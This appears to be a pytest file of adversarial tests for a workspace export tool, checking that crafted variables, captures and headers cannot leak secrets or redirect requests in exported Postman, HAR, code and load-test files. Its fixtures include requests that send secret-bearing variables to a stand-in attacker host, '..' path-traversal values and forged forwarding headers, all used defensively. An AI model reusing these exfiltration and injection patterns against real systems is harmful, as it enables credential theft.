"""Variables of a crafted workspace do no harm in an export."""

import json
import re
from collections.abc import Iterable
from itertools import product

import pytest

from tests.adversarial.machine import INNOCENT, READ, SAVED, Machine, left_out
from tests.adversarial.test_exports import HQ, PLACES, REQUEST_FORMATS, SECRETS
from tests.adversarial.test_requests import append, be_behind_a_gate, quoted
from weda_tui.cli.export import CODE
from weda_tui.core.interchange.export_format import LOAD_FORMATS

KEYS = "{{SECRET_KEY}} {{PASSWORD}} {{access_token}}"
NAMES = [
    *("v", "WeDa.EnvId", "USERNAME", "secret_id", "Basic_Auth", "access_token_expiry", "", "b`"),
    *(" c ", " d", "e ", "\tf", "\u00a0g", "h\n", "\u2003i", "{j"),
]
"""Names that differ in more than spaces and case."""
MADE = ["$uuid", "$guid"]


def written_names(data: bytes) -> set[str]:
    """Return the names that a collection sets: in variables, in scripts and by captures."""
    collection = json.loads(data)
    rows = [collection, *collection["item"]]
    found = {row["key"] for each in rows for row in each["variable"]}
    events = [event for each in rows for event in each["event"]]
    lines = [line for event in events for line in event["script"]["exec"]]
    text = r'(?:keep|pm\.variables\.set)\(("(?:[^"\\]|\\.)*")'
    matches = [re.match(text, line) for line in lines]
    return found | {json.loads(match[1]) for match in matches if match}


def define(
    machine: Machine, place: str, lines: str, texts: Iterable[str], beside: str = INNOCENT
) -> list[str]:
    """Write requests with variables in one of the places that a workspace has for variables."""
    variables = f"[variables]\n{lines}"
    if place == "folder":
        machine.write("collections/lure/folder.toml", variables)
    if place == "environment":
        append(machine, "environments/hq.toml", variables)
    return machine.lay((f"{text}{variables * (place == 'request')}" for text in texts), beside)


def elsewhere(name: str) -> str:
    """Return the text of a request that sends a variable to the attacker."""
    return f'method = "POST"\nurl = "<EVIL>/x"\nbody = {quoted("A{{" + name + "}}B")}\n'


@pytest.mark.parametrize("place", ["request", "folder", "environment"])
@pytest.mark.parametrize("names", [NAMES, ["weda.envid"]], ids=["all", "another-case"])
def test_no_variable_with_secrets_goes_elsewhere(
    machine: Machine, names: list[str], place: str
) -> None:
    lines = "".join(f"{quoted(name)} = {quoted(KEYS)}\n" for name in names)
    files = define(machine, place, lines, map(elsewhere, names))
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        said = f"{format_}: {ran.text}{ran.talk}"
        assert (ran.status, machine.evil.place in ran.text) == (0, False), said
        assert left_out(ran).keys() == {*files}, said


@pytest.mark.parametrize("place", ["request", "folder", "environment"])
def test_no_variable_with_a_name_of_a_made_value_has_a_secret(machine: Machine, place: str) -> None:
    lines = "".join(f"{quoted(name)} = {quoted(KEYS)}\n" for name in MADE)
    define(machine, place, lines, map(elsewhere, MADE), "")
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        said = f"{format_}: {ran.text}{ran.talk}"
        assert [each for each in SECRETS if each in ran.text] == [], said
        is_named = all(f"variables {name}" in ran.talk for name in MADE)
        assert ran.status == 2 or is_named or place == "environment", said


@pytest.mark.parametrize("place", ["request", "folder", "environment", "capture"])
def test_a_collection_writes_plain_names_alone(machine: Machine, place: str) -> None:
    lines = "".join(f"{quoted(name)} = {quoted('$.a')}\n" for name in (*NAMES, *MADE, "weda.envid"))
    if place == "capture":
        machine.write("collections/lure/zz.toml", f"{SAVED}[capture]\n{lines}")
    else:
        define(machine, place, lines, ['method = "POST"\nurl = "{{vars.host}}/x"\n'])
    file = machine.folder / "c.json"
    words = ("export", "lure", "--format", "postman", "--env", "hq", "-o", str(file))
    ran = machine.run(*words, "--lang", "en")
    assert ran.status == 0, ran.talk
    beside = json.loads((machine.folder / "c.postman_environment.json").read_bytes())
    own = {"vars.host", "WeDa.EnvType", "SECRET_ID", "SECRET_KEY", "USERNAME", "PASSWORD"}
    names = written_names(file.read_bytes()) | {each["key"] for each in beside["values"]}
    assert names - own - {"access_token"} == {"v"}
    values = {each["key"]: each["value"] for each in beside["values"]}
    assert "$.a" not in {values[name] for name in own if name in values}


def test_no_variable_leads_out_of_the_prefix(machine: Machine) -> None:
    be_behind_a_gate(machine)
    names = ("v", "WeDa.EnvId", "USERNAME", "SECRET_ID", "basic_auth", "$uuid")
    define(
        machine,
        "request",
        "".join(f'"{name}" = ".."\n' for name in (*names, "$guid")),
        (f'method = "POST"\nurl = "{{{{vars.host}}}}/{{{{{name}}}}}/other/x"\n' for name in names),
    )
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        assert (ran.status, "/innocent" in ran.text) == (0, True), ran.talk
        assert "/../" not in ran.text, format_
        assert 'guid"' not in ran.text, format_
        for name in names[:-1]:
            assert f"{{{{{name}}}}}/other" not in ran.text, format_


@pytest.mark.parametrize("lines", ["", '[capture]\np = "$.p"\n'])
def test_no_open_and_no_captured_value_is_in_a_path_below_a_prefix(
    machine: Machine, lines: str
) -> None:
    be_behind_a_gate(machine)
    machine.lay(
        ['method = "POST"\nurl = "{{vars.host}}/{{p}}/other-tenant"\n'],
        f'method = "GET"\nurl = "<EVIL>/x"\n{lines}',
    )
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        is_load = format_ in LOAD_FORMATS  # load tests have no request to another host
        assert ran.status == (2 if is_load else 0), ran.talk
        assert "other-tenant" not in ran.text, format_
        assert is_load or "z0" in left_out(ran), format_


def test_a_value_that_another_place_sets_is_in_no_host(machine: Machine) -> None:
    """In Postman an environment overrides a collection, and values set by a script persist."""
    machine.write("collections/lure/folder.toml", '[variables]\nx = ""\n')
    machine.write(
        "collections/lure/zz.toml",
        f'endpoint = "{READ}"\nmethod = "POST"\nurl = "{{{{vars.host}}}}{{{{x}}}}/zz-path"\n',
    )
    for name, text in (
        ("environments/hq.toml", '[variables]\nx = "@<EVIL-PLACE>"\n'),
        ("collections/lure/a.toml", f'{SAVED}[variables]\nx = "@<EVIL-PLACE>"\n'),
    ):
        if name.startswith("environments/"):
            append(machine, name, text)
        else:
            machine.write(name, text)
    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
    assert "zz-path" not in ran.text


def test_no_secret_is_in_an_address(machine: Machine) -> None:
    """Programs that run an export print its URLs."""
    queries = (
        *("k={{SECRET_KEY}}", "{{access_token}}", "a=1&t={{PASSWORD}}", "k={{basic_auth}}"),
        *("k={{v}}", "k={{my_password}}", "k={{密码}}", "k={{t}}"),
    )
    urls = (f'method = "GET"\nurl = "{{{{vars.host}}}}/zz-path?{query}"\n' for query in queries)
    taking = f'{SAVED}[capture]\nt = "$.access_token"\n'
    files = define(machine, "request", 'v = "{{SECRET_KEY}}"\n', urls, taking)
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        assert ran.status == 0, ran.talk
        assert "zz-path" not in ran.text, format_
        assert left_out(ran).keys() == {*files}, format_


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("密码", "value"),
        ("密码", "甲"),
        ("SSO密码", "sso"),
        ("a.b", "a_b"),
        ("A", "a"),
        ("a_2", "a.2"),
    ],
)
def test_two_variables_of_a_program_are_two(machine: Machine, one: str, other: str) -> None:
    machine.write(
        "collections/lure/zz.toml",
        'method = "POST"\nurl = "{{vars.host}}/x"\n'
        f'body = "first {{{{{one}}}}} second {{{{{other}}}}} third {{{{{one}}}}}"\n',
    )
    for format_, ran in machine.exports({*CODE} - {"http", "har"}, HQ, name="lure/zz"):
        assert ran.status == 0, ran.talk
        (line,) = (each for each in ran.text.splitlines() if "first " in each and "third " in each)
        first, second, third = re.findall(r"WEDA_VAR_\w+", line)
        assert first == third, format_
        assert first != second, format_


EXPECTED = [
    *("{{SECRET_KEY}}", "{{ SECRET_KEY }}", "{{access_token}}", "{{vars.host}}", "{{v}}", "{{w}}"),
    *("{{t}}", "{{a}}{{b}}", "{{密码}}", "{{SECRET{{y}}}}", "{{{y}}SECRET_KEY}}"),
]


def test_no_expectation_names_a_secret(machine: Machine) -> None:
    files = machine.lay(
        (
            f'{SAVED}[variables]\nv = "{{{{SECRET_KEY}}}}"\nw = "{{{{v}}}}"\na = "{{{{SECRET"\n'
            f'b = "_KEY}}}}"\n[[assert]]\non = "status"\n{operator} = {quoted(f"[z-{text}]")}\n'
            for operator, text in product(("equals", "contains", "matches"), EXPECTED)
        ),
        f'{SAVED}[variables]\ny = "{{"\n[capture]\nt = "$.a"\n',
    )
    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
    assert ran.status == 0, ran.talk
    assert "[z-" not in ran.text
    for file in files:
        assert re.search(rf"\b{file}\b.*assert status", ran.talk), ran.talk


SIGN_IN = """method = "POST"
url = "{{vars.host}}/auth/v1/signin"
body = \'{"username": "{{USERNAME}}", "password": "{{PASSWORD}}"}\'
"""
OWN = SIGN_IN.replace("PASSWORD", "my_password")
TOKEN_CALLS = {
    "token": 'endpoint = "auth.clientCredential"\nmethod = "POST"\n'
    'url = "{{vars.host}}/auth/v1/token/clientCredential"\n',
    "sign-in": SIGN_IN,
    "introspection": OWN.replace("signin", "token/introspect"),
    "a-password-to-a-call-that-nobody-knows": OWN.replace("auth/v1/signin", "x"),
    "basic": 'method = "GET"\nurl = "{{vars.host}}/x"\nheaders = ["Authorization: Basic {{b}}"]\n',
}


@pytest.mark.parametrize("call", TOKEN_CALLS.values(), ids=TOKEN_CALLS)
def test_no_assertion_shows_an_answer_that_may_hold_tokens(machine: Machine, call: str) -> None:
    machine.write("collections/lure/zz.toml", f'{call}[[assert]]\non = "$.data"\nequals = "x"\n')
    for _, ran in machine.exports(["postman"], *PLACES):
        assert ran.status == 0, ran.talk
        assert r'"checkSecret(\"$.data' in ran.text
        assert r'"check(\"$.data' not in ran.text


ANY = "{{vars.host}}/weda/x"
EDIT, REVOKE, TOKEN = (
    f"{{{{vars.host}}}}/auth/v1/{each}" for each in ("user/basic/edit", "revoke", "token")
)
PIECES = 'v = "{{SECRET_"\nw = "KEY}}"\nx = "{"\ny = "{{v}}"\nz = "{{w}}"\n'
MISPLACED = {
    "key": (EDIT, '{"nickname": "{{SECRET_KEY}}"}', ""),
    "basic": (EDIT, '{"nickname": "{{basic_auth}}"}', ""),
    "token": (EDIT, '{"nickname": "{{access_token}}"}', ""),
    "password": (ANY, '{"text": "{{PASSWORD}}"}', ""),
    "password-as-a-name": (
        "{{vars.host}}/auth/v1/signin",
        '{"username": "{{PASSWORD}}", "password": "{{PASSWORD}}"}',
        "",
    ),
    "key-to-revoke": (REVOKE, '{"token": "{{SECRET_KEY}}"}', ""),
    "basic-to-revoke": (REVOKE, '{"token": "{{BASIC_AUTH}}"}', ""),
    "token-in-another-member": (
        REVOKE,
        '{"token": "{{access_token}}", "x": "{{access_token}}"}',
        "",
    ),
    "token-to-refresh": (TOKEN, '{"refresh_token": "{{access_token}}"}', ""),
    "captured": (ANY, '{"text": "{{t}}"}', '[capture]\nt = "$.access_token"\n'),
    "captured-to-auth": (EDIT, '{"text": "{{t}}"}', '[capture]\nt = "$.access_token"\n'),
    "variable-of-another": (ANY, '{"text": "{{v}}"}', '[variables]\nv = "{{SECRET_KEY}}"\n'),
    "two-of-another": (
        ANY,
        '{"text": "{{v}}"}',
        '[variables]\nv = "{{w}}"\nw = "{{SECRET_KEY}}"\n',
    ),
    "pieces": (ANY, '{"text": "{{v}}{{w}}"}', f"[variables]\n{PIECES}"),
    "pieces-in-pieces": (ANY, '{"text": "{{y}}{{z}}"}', f"[variables]\n{PIECES}"),
    "brace": (ANY, '{"text": "{{x}}{{x}}SECRET_KEY}}"}', f"[variables]\n{PIECES}"),
    "end-of-an-answer": (ANY, '{"text": "{{SECRET_{{c}}"}', '[capture]\nc = "$.c"\n'),
    "nothing-in-an-answer": (ANY, '{"text": "{{{c}}{SECRET_KEY}}"}', '[capture]\nc = "$.c"\n'),
}  # fmt: skip


def misplace(url: str, text: str) -> tuple[str, str]:
    """Return the texts of two requests with a text in the body, and in a header."""
    asked, header = f'method = "POST"\nurl = "{url}"\n', quoted(f"X-Request-Id: {text}")
    return f"{asked}body = {quoted(text)}\n", f"{asked}headers = [{header}]\n"


CARRIED = {name: each for name, each in MISPLACED.items() if each[-1]}


@pytest.mark.parametrize(("url", "text", "first"), CARRIED.values(), ids=CARRIED)
def test_no_secret_of_another_request_is_in_a_body_or_header(
    machine: Machine, url: str, text: str, first: str
) -> None:
    """Postman keeps variables and captures from request to request."""
    asks = TOKEN_CALLS["token"] if "access_token" in first else SAVED
    files = machine.lay(misplace(url, text), f"{asks}{first}")
    ran = machine.run("export", "lure", "--format", "postman", "--env", "hq", "--lang", "en")
    assert ran.status == 0, ran.talk
    assert left_out(ran).keys() == {*files}
    assert text not in ran.text


def test_no_secret_is_in_a_body_or_header(machine: Machine) -> None:
    """A server may store both."""
    own = [(url, text) for url, text, first in MISPLACED.values() if not first]
    files = machine.lay((each for pair in own for each in misplace(*pair)), SAVED)
    for format_, ran in machine.exports(REQUEST_FORMATS, HQ):
        assert ran.status == 0, ran.talk
        assert left_out(ran).keys() == {*files}, format_
        assert not any(text in ran.text for _, text in own), format_


PLACED = (
    (REVOKE, '{"token": "{{access_token}}"}'),
    ("{{vars.host}}/auth/v1/signin", '{"username": "{{USERNAME}}", "password": "{{PASSWORD}}"}'),
    (ANY, '{"password": "{{my_password}}", "id": "{{id}}"}'),
    (ANY, '{"a": {{v}}}'),
)


def test_what_a_body_may_hold_is_exported(machine: Machine) -> None:
    machine.lay(
        (f'method = "POST"\nurl = "{url}"\nbody = {quoted(body)}\n' for url, body in PLACED),
        f'{SAVED}[capture]\nid = "$.id"\n[variables]\nv = \'{{"b": {{"c": 1}}}}\'\n',
    )
    for format_, ran in machine.exports(REQUEST_FORMATS, HQ):
        assert (ran.status, left_out(ran)) == (0, {}), format_


def test_no_export_puts_a_secret_where_a_file_has_none(machine: Machine) -> None:
    bodies = (
        '{"data": {"accessToken": "x"}}',
        *("access_token=x&y=1", "<a><access_token>hello</access_token></a>", "access_token: hello"),
        *('{"basic_auth": "x1", "SECRET_KEY": "x2"}', '{"user_access_token": "x"}'),
    )
    first = f'method = "POST"\nurl = "{ANY}"\nheaders = ["Access-Token: x"]\n'
    machine.lay(f"{first}body = {quoted(body)}\n" for body in bodies)
    for format_, ran in machine.exports(("http", "har"), HQ):
        assert ran.status == 0, f"{format_}: {ran.talk}"
        names = re.findall(
            r"\{\{(access_token|user_access_token|basic_auth|SECRET_KEY)\}\}", ran.text
        )
        assert names == ["access_token"] * len(bodies)  # of the Authorization headers


LED = (
    ("{{vars.host}}{{x0}}zz-path", "", "/"),
    ("{{vars.host}}/{{x1}}/zz-path", "", "a"),
    ("{{vars.host}}/zz-path", 'headers = ["X-Forwarded-Host: {{x2}}"]\n', "<HOME-PLACE>"),
    ("{{vars.host}}/zz-path", 'headers = ["X-Original-URL: {{x3}}"]\n', "/weda-a"),
)


def test_no_variable_hides_a_captured_value_that_leads_away(machine: Machine) -> None:
    """A load test uses the captured text where the file has a harmless value."""
    be_behind_a_gate(machine)
    captures = "".join(f'x{number} = "$.x"\n' for number in range(len(LED)))
    files = define(
        machine,
        "request",
        "".join(f"x{number} = {quoted(value)}\n" for number, (*_, value) in enumerate(LED)),
        (f'method = "POST"\nurl = "{url}"\n{headers}' for url, headers, _ in LED),
        f"{SAVED}[capture]\n{captures}",
    )
    for format_, ran in machine.exports(LOAD_FORMATS, *PLACES):
        assert ran.status == 0, ran.talk
        assert "zz-path" not in ran.text, format_
        assert left_out(ran).keys() == {*files}, format_
